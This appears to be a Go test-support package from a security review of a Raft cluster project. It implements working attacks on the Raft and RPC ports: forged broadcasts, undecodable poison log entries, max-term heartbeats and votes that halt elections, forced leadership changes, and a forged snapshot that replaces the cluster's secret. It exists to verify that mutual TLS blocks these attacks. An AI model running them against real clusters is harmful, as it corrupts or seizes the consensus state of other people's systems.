// Package stranger holds the attacks of issue 11's security review: what a
// process that can merely reach a node's Raft port (and its gossip port)
// tries against the cluster. Each attack dials the port itself, speaks
// the real wire formats (hashicorp/raft's NetworkTransport behind the
// service byte 1, the internal RPC's frames behind the service byte 2, and
// memberlist for gossip) and reports what it observed: whether it
// connected, whether the TLS handshake failed, how many bytes came back
// and the decoded response, if any.
//
// The package exists for the tests in this folder and the stranger command
// (cmd/stranger), which run these attacks from a separate process against
// real raftplane nodes: against a plaintext cluster they must work (so that
// "the attack got nothing" proves something), against a cluster with peer
// mutual TLS and a gossip key they must get nothing.
package stranger

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"math"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
	"github.com/raftplane/raftplane/fsm"
	"github.com/raftplane/raftplane/status"
)

// Service bytes of the shared Raft port (cluster/mux.go).
const (
	serviceRaft byte = 1
	serviceRPC  byte = 2
)

// Internal RPC frame types (cluster/rpc.go).
const (
	rpcForward   byte = 1
	rpcStats     byte = 2
	rpcForwardOK byte = 3
	rpcStatsOK   byte = 4
	rpcNotLeader byte = 5
	rpcFailed    byte = 6
	rpcRefused   byte = 8
)

// DefaultTimeout bounds an attack whose context has no deadline.
const DefaultTimeout = 5 * time.Second

// maxFrame bounds a response frame the stranger reads: it only expects
// short answers.
const maxFrame = 1 << 20

// Attack names, as the stranger command takes them.
const (
	AttackStats           = "stats"
	AttackForward         = "forward"
	AttackForwardPoison   = "forward-poison"
	AttackAppend          = "append"
	AttackMaxTermAppend   = "max-term-append"
	AttackMaxTermVote     = "max-term-vote"
	AttackInstallSnapshot = "install-snapshot"
	AttackTimeoutNow      = "timeout-now"
	AttackGossipJoin      = "gossip-join"
)

// RaftAttacks are the attacks on the Raft port, in the order the stranger
// command runs them by default: the harmless first, the ones that
// would wreck a plaintext cluster last.
var RaftAttacks = []string{
	AttackStats, AttackForward, AttackForwardPoison, AttackTimeoutNow,
	AttackAppend, AttackInstallSnapshot, AttackMaxTermVote, AttackMaxTermAppend,
}

// Result is what one attack observed.
type Result struct {
	Attack string `json:"attack"`
	Target string `json:"target"`
	// TLS names the stranger's TLS variant (set by the command).
	TLS string `json:"tls,omitempty"`
	// Connected: the TCP (or, for gossip, memberlist) connection opened.
	Connected bool `json:"connected"`
	// HandshakeError is the client-side TLS handshake failure, if any.
	// With TLS 1.3 the client finishes its handshake before the server
	// checks the client's certificate, so a refused stranger may see no
	// handshake error here and the server's alert on its first read.
	HandshakeError string `json:"handshake_error,omitempty"`
	// WireBytes counts every byte received, TLS records included.
	WireBytes int64 `json:"wire_bytes"`
	// AppBytes counts the bytes of application data received: after TLS
	// when TLS is on, all of WireBytes otherwise. A node that refuses the
	// stranger sends none.
	AppBytes int64 `json:"app_bytes"`
	// Answered: a well-formed response was decoded (Response holds it).
	Answered bool   `json:"answered"`
	Response any    `json:"response,omitempty"`
	Err      string `json:"error,omitempty"`
}

// counter is the byte counts of one attack's connections.
type counter struct {
	connected atomic.Bool
	wire, app atomic.Int64

	mu           sync.Mutex
	handshakeErr string
}

func (c *counter) fill(r *Result) {
	r.Connected = c.connected.Load()
	r.WireBytes, r.AppBytes = c.wire.Load(), c.app.Load()
	c.mu.Lock()
	r.HandshakeError = c.handshakeErr
	c.mu.Unlock()
}

// countingConn counts the bytes read through it.
type countingConn struct {
	net.Conn
	n *atomic.Int64
}

func (c countingConn) Read(p []byte) (int, error) {
	n, err := c.Conn.Read(p)
	c.n.Add(int64(n))
	return n, err
}

// dial opens a connection to a node's Raft port for service, as a peer
// does: TCP, the TLS client handshake when tlsConf is set, then the
// service byte.
func (c *counter) dial(addr string, tlsConf *tls.Config, service byte, timeout time.Duration) (net.Conn, error) {
	raw, err := net.DialTimeout("tcp", addr, timeout)
	if err != nil {
		return nil, err
	}
	c.connected.Store(true)
	_ = raw.SetDeadline(time.Now().Add(timeout))
	var conn net.Conn = countingConn{Conn: raw, n: &c.wire}
	if tlsConf != nil {
		tc := tls.Client(conn, tlsConf)
		if err := tc.Handshake(); err != nil {
			c.mu.Lock()
			c.handshakeErr = err.Error()
			c.mu.Unlock()
			raw.Close()
			return nil, fmt.Errorf("TLS handshake: %w", err)
		}
		conn = countingConn{Conn: tc, n: &c.app}
	} else {
		// Plaintext: every byte is application data.
		conn = countingConn{Conn: conn, n: &c.app}
	}
	if _, err := conn.Write([]byte{service}); err != nil {
		raw.Close()
		return nil, err
	}
	_ = raw.SetDeadline(time.Time{})
	return conn, nil
}

func timeoutOf(ctx context.Context) time.Duration {
	if d, ok := ctx.Deadline(); ok {
		return max(time.Until(d), time.Millisecond)
	}
	return DefaultTimeout
}

// ---- the internal RPC ----

// RPCResponse is a decoded internal RPC response.
type RPCResponse struct {
	// Type is forward-ok, stats-ok, not-leader, failed, refused or the
	// frame type's number.
	Type string `json:"type"`
	// Indexes are the log indexes of forwarded commands (forward-ok).
	Indexes []uint64 `json:"indexes,omitempty"`
	// Applied and LastLogIndex answer rpcStats.
	Applied      uint64 `json:"applied,omitempty"`
	LastLogIndex uint64 `json:"last_log_index,omitempty"`
	// Message is the text of a failed or refused response.
	Message string `json:"message,omitempty"`
}

// rpcCall sends one internal RPC request and reads its response.
func rpcCall(ctx context.Context, name, addr string, tlsConf *tls.Config, typ byte, body []byte) (res Result) {
	res = Result{Attack: name, Target: addr}
	var cnt counter
	defer cnt.fill(&res) // after the last read: res is the named result
	timeout := timeoutOf(ctx)
	conn, err := cnt.dial(addr, tlsConf, serviceRPC, timeout)
	if err != nil {
		res.Err = err.Error()
		return res
	}
	defer conn.Close()
	stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	_ = conn.SetDeadline(time.Now().Add(timeout))

	const id = 1
	idb := binary.AppendUvarint(nil, id)
	frame := binary.AppendUvarint(nil, uint64(1+len(idb)+len(body)))
	frame = append(frame, typ)
	frame = append(frame, idb...)
	frame = append(frame, body...)
	if _, err := conn.Write(frame); err != nil {
		res.Err = err.Error()
		return res
	}
	r := bufio.NewReader(conn)
	size, err := binary.ReadUvarint(r)
	if err != nil {
		res.Err = "reading the response: " + err.Error()
		return res
	}
	if size < 2 || size > maxFrame {
		res.Err = fmt.Sprintf("response frame of %d bytes", size)
		return res
	}
	buf := make([]byte, size)
	if _, err := io.ReadFull(r, buf); err != nil {
		res.Err = "reading the response: " + err.Error()
		return res
	}
	rid, n := binary.Uvarint(buf[1:])
	if n <= 0 || rid != id {
		res.Err = "response with a bad request id"
		return res
	}
	resp, err := decodeRPC(buf[0], buf[1+n:])
	if err != nil {
		res.Err = err.Error()
		return res
	}
	res.Answered, res.Response = true, resp
	return res
}

func decodeRPC(typ byte, body []byte) (RPCResponse, error) {
	bad := fmt.Errorf("malformed response of type %d", typ)
	switch typ {
	case rpcStatsOK:
		applied, k := binary.Uvarint(body)
		if k <= 0 {
			return RPCResponse{}, bad
		}
		last, k2 := binary.Uvarint(body[k:])
		if k2 <= 0 {
			return RPCResponse{}, bad
		}
		return RPCResponse{Type: "stats-ok", Applied: applied, LastLogIndex: last}, nil
	case rpcForwardOK:
		n, k := binary.Uvarint(body)
		if k <= 0 || n > uint64(len(body)) {
			return RPCResponse{}, bad
		}
		body = body[k:]
		out := RPCResponse{Type: "forward-ok"}
		for range n {
			idx, k1 := binary.Uvarint(body)
			if k1 <= 0 {
				return RPCResponse{}, bad
			}
			_, k2 := binary.Uvarint(body[k1:])
			if k2 <= 0 || len(body) < k1+k2+2 {
				return RPCResponse{}, bad
			}
			out.Indexes = append(out.Indexes, idx)
			body = body[k1+k2+2:]
		}
		return out, nil
	case rpcNotLeader:
		return RPCResponse{Type: "not-leader"}, nil
	case rpcFailed:
		return RPCResponse{Type: "failed", Message: string(body)}, nil
	case rpcRefused:
		if len(body) > 0 {
			body = body[1:]
		}
		return RPCResponse{Type: "refused", Message: string(body)}, nil
	}
	return RPCResponse{Type: fmt.Sprint(typ), Message: string(body)}, nil
}

// Stats asks the node for its applied and last log index (rpcStats),
// which the review found answers anyone.
func Stats(ctx context.Context, addr string, tlsConf *tls.Config) Result {
	return rpcCall(ctx, AttackStats, addr, tlsConf, rpcStats, nil)
}

// Forward asks the node, which must be the leader, to commit a broadcast:
// a publish to every connection of hub, calling the client method target
// with the argument "x". Against a node without peer TLS, every client of
// hub receives it.
func Forward(ctx context.Context, addr string, tlsConf *tls.Config, hub, target string) Result {
	cmd := fsm.Command{
		Kind: fsm.KindPublish, ID: "stranger-" + randomHex(8), Time: time.Now().UnixNano(),
		Hub: hub, Audience: fsm.AudienceAll, Target: target, Args: []byte(`["x"]`),
	}
	return rpcCall(ctx, AttackForward, addr, tlsConf, rpcForward, fsm.EncodeBatch([]fsm.Command{cmd}))
}

// PoisonBatch is a log entry no version of the FSM can decode: a known
// batch version claiming one command, then a truncated command.
var PoisonBatch = []byte{1, 1, 0xff, 0xff, 0xff, 0xff, 0x0f, 0x02}

// ForwardPoison forwards a batch the FSM cannot decode.
func ForwardPoison(ctx context.Context, addr string, tlsConf *tls.Config) Result {
	return rpcCall(ctx, AttackForwardPoison, addr, tlsConf, rpcForward, PoisonBatch)
}

// ---- Raft ----

// StrangerID is the server id and address the forged Raft RPCs claim.
const StrangerID = "stranger"

// streamLayer is a raft.StreamLayer that only dials: the stranger's
// transport never accepts a connection.
type streamLayer struct {
	cnt     *counter
	tlsConf *tls.Config

	closeOnce sync.Once
	closed    chan struct{}
}

func newStreamLayer(cnt *counter, tlsConf *tls.Config) *streamLayer {
	return &streamLayer{cnt: cnt, tlsConf: tlsConf, closed: make(chan struct{})}
}

func (s *streamLayer) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	return s.cnt.dial(string(addr), s.tlsConf, serviceRaft, timeout)
}

// Accept blocks until Close: NetworkTransport's listener goroutine waits
// here and ends when the transport closes.
func (s *streamLayer) Accept() (net.Conn, error) {
	<-s.closed
	return nil, net.ErrClosed
}

func (s *streamLayer) Close() error {
	s.closeOnce.Do(func() { close(s.closed) })
	return nil
}

func (s *streamLayer) Addr() net.Addr { return strangerAddr{} }

type strangerAddr struct{}

func (strangerAddr) Network() string { return "tcp" }
func (strangerAddr) String() string  { return StrangerID }

// raftCall runs fn with a fresh NetworkTransport to addr and fills the
// result from what its connection saw.
func raftCall(ctx context.Context, name, addr string, tlsConf *tls.Config, fn func(t *raft.NetworkTransport) (any, error)) (res Result) {
	res = Result{Attack: name, Target: addr}
	var cnt counter
	defer cnt.fill(&res) // after the last read: res is the named result
	stream := newStreamLayer(&cnt, tlsConf)
	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
		Stream: stream, MaxPool: 1, Timeout: timeoutOf(ctx), Logger: hclog.NewNullLogger(),
	})
	defer trans.Close()
	resp, err := fn(trans)
	if err != nil {
		res.Err = err.Error()
		return res
	}
	res.Answered, res.Response = true, resp
	return res
}

func header() raft.RPCHeader {
	return raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(StrangerID), Addr: []byte(StrangerID)}
}

// Append sends a follower an AppendEntries at its current term (st, as
// GET /api/v1/status reported it) carrying one entry the FSM cannot decode
// right after its last one, with a commit index that commits it. The
// previous-entry check is skipped by naming no previous entry. Against a
// node without peer TLS the follower stores and applies the entry: its log
// then differs from its peers' at that index forever.
func Append(ctx context.Context, addr string, tlsConf *tls.Config, st status.Node) Result {
	return raftCall(ctx, AttackAppend, addr, tlsConf, func(t *raft.NetworkTransport) (any, error) {
		next := st.LastLogIndex + 1
		req := &raft.AppendEntriesRequest{
			RPCHeader: header(), Term: st.Term,
			Entries:           []*raft.Log{{Index: next, Term: st.Term, Type: raft.LogCommand, Data: PoisonBatch, AppendedAt: time.Now()}},
			LeaderCommitIndex: next,
		}
		var resp raft.AppendEntriesResponse
		err := t.AppendEntries(raft.ServerID(st.NodeID), raft.ServerAddress(addr), req, &resp)
		return resp, err
	})
}

// MaxTermAppend sends a heartbeat at term MaxUint64: a node without peer
// TLS adopts the term, its leader steps down, and no election can follow
// (terms wrap to 0).
func MaxTermAppend(ctx context.Context, addr string, tlsConf *tls.Config) Result {
	return raftCall(ctx, AttackMaxTermAppend, addr, tlsConf, func(t *raft.NetworkTransport) (any, error) {
		req := &raft.AppendEntriesRequest{RPCHeader: header(), Term: math.MaxUint64}
		var resp raft.AppendEntriesResponse
		err := t.AppendEntries("", raft.ServerAddress(addr), req, &resp)
		return resp, err
	})
}

// MaxTermVote asks for a vote at term MaxUint64 with a log that claims to
// be the longest possible.
func MaxTermVote(ctx context.Context, addr string, tlsConf *tls.Config) Result {
	return raftCall(ctx, AttackMaxTermVote, addr, tlsConf, func(t *raft.NetworkTransport) (any, error) {
		req := &raft.RequestVoteRequest{
			RPCHeader: header(), Term: math.MaxUint64,
			LastLogIndex: math.MaxUint64, LastLogTerm: math.MaxUint64,
		}
		var resp raft.RequestVoteResponse
		err := t.RequestVote("", raft.ServerAddress(addr), req, &resp)
		return resp, err
	})
}

// TimeoutNow tells a follower to start an election at once, as a leader
// handing over leadership does: against a node without peer TLS,
// leadership moves to it.
func TimeoutNow(ctx context.Context, addr string, tlsConf *tls.Config) Result {
	return raftCall(ctx, AttackTimeoutNow, addr, tlsConf, func(t *raft.NetworkTransport) (any, error) {
		req := &raft.TimeoutNowRequest{RPCHeader: header()}
		var resp raft.TimeoutNowResponse
		err := t.TimeoutNow("", raft.ServerAddress(addr), req, &resp)
		return resp, err
	})
}

// InstallSnapshot sends the node a snapshot of a state machine the stranger
// made: a cluster whose epoch and secret are the stranger's, ahead of the
// node's log, with a configuration in which the node is the only voter.
func InstallSnapshot(ctx context.Context, addr string, tlsConf *tls.Config, st status.Node) Result {
	return raftCall(ctx, AttackInstallSnapshot, addr, tlsConf, func(t *raft.NetworkTransport) (any, error) {
		data, err := ForgedSnapshot()
		if err != nil {
			return nil, err
		}
		index := st.LastLogIndex + 1000
		conf := raft.Configuration{Servers: []raft.Server{{Suffrage: raft.Voter, ID: raft.ServerID(st.NodeID), Address: raft.ServerAddress(st.RaftAddr)}}}
		req := &raft.InstallSnapshotRequest{
			RPCHeader: header(), SnapshotVersion: raft.SnapshotVersionMax, Term: st.Term,
			LastLogIndex: index, LastLogTerm: st.Term,
			Configuration: raft.EncodeConfiguration(conf), ConfigurationIndex: index,
			Size: int64(len(data)),
		}
		var resp raft.InstallSnapshotResponse
		err = t.InstallSnapshot(raft.ServerID(st.NodeID), raft.ServerAddress(addr), req, &resp, bytes.NewReader(data))
		return resp, err
	})
}

// ForgedEpoch is the cluster id of the stranger's forged snapshot.
const ForgedEpoch = "stranger-epoch"

// ForgedSnapshot returns an FSM snapshot of a state whose epoch is
// ForgedEpoch and whose secret the stranger chose, made by the real FSM so
// that a node restores it.
func ForgedSnapshot() ([]byte, error) {
	m, err := fsm.New(fsm.DefaultConfig())
	if err != nil {
		return nil, err
	}
	init := fsm.Command{Kind: fsm.KindClusterInit, ID: "stranger-init", Time: time.Now().UnixNano(),
		ClusterID: ForgedEpoch, Secret: []byte("the stranger's secret")}
	if r := m.Apply(&raft.Log{Index: 1, Term: 1, Type: raft.LogCommand, Data: fsm.EncodeBatch([]fsm.Command{init})}); r != nil {
		if err, ok := r.(error); ok {
			return nil, fmt.Errorf("forging the snapshot: %w", err)
		}
	}
	snap, err := m.Snapshot()
	if err != nil {
		return nil, err
	}
	sink := &bufferSink{}
	if err := snap.Persist(sink); err != nil {
		return nil, err
	}
	return sink.Bytes(), nil
}

// bufferSink is a raft.SnapshotSink in memory.
type bufferSink struct{ bytes.Buffer }

func (*bufferSink) ID() string      { return "stranger" }
func (*bufferSink) Cancel() error   { return nil }
func (*bufferSink) Close() error    { return nil }
func (s *bufferSink) Bytes() []byte { return s.Buffer.Bytes() }

func randomHex(n int) string {
	b := make([]byte, n)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}
